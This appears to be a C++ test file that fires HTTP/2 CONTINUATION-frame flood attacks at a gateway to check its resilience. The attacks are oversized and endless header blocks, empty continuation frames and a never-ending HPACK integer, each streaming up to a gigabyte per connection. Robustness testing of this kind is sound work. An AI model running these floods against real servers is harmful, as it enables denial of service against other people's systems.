// Header blocks over CONTINUATION frames (RFC 9113, section 6.10), which no call needs.
#include <fmt/format.h>

#include "tests/attacks/amount.h"
#include "tests/attacks/calls.h"
#include "tests/attacks/families.h"

namespace gateway::attacks {
namespace {

using namespace http2;

/// HTTP/2's largest frame, unless the server allows more.
constexpr std::size_t kFrameBytes = 16 * kKiB;
/// So much goes out at a time.
constexpr std::size_t kWriteBytes = 64 * kKiB;
/// Of a round.
constexpr std::size_t kMostBytes = 1024 * kMiB;
constexpr std::size_t kLongBytes = 10 * kMiB;

/// The block of an attack: how it goes on after a call's usual headers, in each frame.
struct Block {
  std::string begin;
  std::string payload;
  /// Nothing: the block never ends.
  std::optional<std::size_t> payload_bytes;
};

/// Until the server has an answer to the first stream.
void AwaitAnswer(Client& client, const Target& target) {
  while (const auto frame = client.Read(target.is_over)) {
    if (frame->stream == 1 || frame->type == Type::kGoAway) return;
  }
}

Outcome Send(const Block& block, const Target& target) {
  Client client(target.address);
  bool is_open = client.Write(std::string(kPreface) + Frame(Type::kSettings, 0, 0, "") +
                                  Frame(Type::kHeaders, 0, 1, GrpcHeaders(kMethod) + block.begin),
                              target.is_over);
  const std::string frame = Frame(Type::kContinuation, 0, 1, block.payload);
  std::string frames;
  while (frames.size() < kWriteBytes) frames += frame;
  const std::size_t frames_payload = frames.size() / frame.size() * block.payload.size();
  std::size_t sent = 0;
  std::size_t sent_payload = 0;
  while (is_open && sent < kMostBytes && sent_payload < block.payload_bytes.value_or(kMostBytes)) {
    is_open = client.Write(frames, target.is_over);
    sent += frames.size();
    sent_payload += frames_payload;
  }
  if (is_open && block.payload_bytes) {
    client.Write(Frame(Type::kContinuation, kEndHeaders, 1, "") +
                     GrpcMessage(1, RequestOfCall().SerializeAsString()),
                 target.is_over);
    AwaitAnswer(client, target);
  }
  return {.seen = fmt::format("{} {}", client.has_ended() ? "cut off within" : "took",
                              BytesText(sent))};
}

Attack Make(const char* name, Block block) {
  return {.name = name,
          .run = [block = std::move(block)](const Target& target) { return Send(block, target); }};
}

/// As many small headers as fit into a frame.
std::string SmallHeaders() {
  std::string headers;
  for (int i = 0; headers.size() < kFrameBytes - kKiB; ++i) {
    headers += HpackHeader({fmt::format("x-{}", i), "1"});
  }
  return headers;
}

/// A literal header whose name is as long as an integer says that does not end: its bytes add
/// nothing and promise more.
constexpr char kLiteral = 0x10;
constexpr char kLongLength = 0x7f;
constexpr char kMore = static_cast<char>(0x80);

}  // namespace

std::vector<Attack> HeaderAttacks() {
  return {
      Make("long-header", {.begin = kLiteral + HpackLength(6) + "x-long" + HpackLength(kLongBytes),
                           .payload = std::string(kFrameBytes, 'a'),
                           .payload_bytes = kLongBytes}),
      Make("endless-headers",
           {.begin = "", .payload = SmallHeaders(), .payload_bytes = std::nullopt}),
      Make("empty-continuation", {.begin = "", .payload = "", .payload_bytes = std::nullopt}),
      Make("endless-integer", {.begin = {kLiteral, kLongLength},
                               .payload = std::string(kFrameBytes, kMore),
                               .payload_bytes = std::nullopt}),
  };
}

}  // namespace gateway::attacks
